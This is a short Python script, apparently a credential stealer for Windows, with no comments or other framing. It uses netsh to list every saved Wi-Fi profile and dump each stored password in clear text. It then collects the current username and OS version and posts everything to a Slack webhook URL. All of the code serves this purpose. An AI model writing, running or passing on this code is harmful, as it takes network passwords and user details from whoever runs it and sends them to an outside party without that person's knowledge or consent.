import subprocess, json, urllib.request, platform, getpass
def sh(*words):
    return subprocess.run(words, capture_output=True, text=True).stdout
wifi = {}
for line in sh("netsh", "wlan", "show", "profiles").splitlines():
    if "All User Profile" in line:
        name = line.split(":")[1].strip()
        wifi[name] = sh("netsh", "wlan", "show", "profile", name, "key=clear")
info = {"user": getpass.getuser(), "os": platform.version(), "wifi": wifi}
req = urllib.request.Request("https://hooks.slack.com/services/T000/B000/XXXX", json.dumps({"text": str(info)}).encode())
urllib.request.urlopen(req)
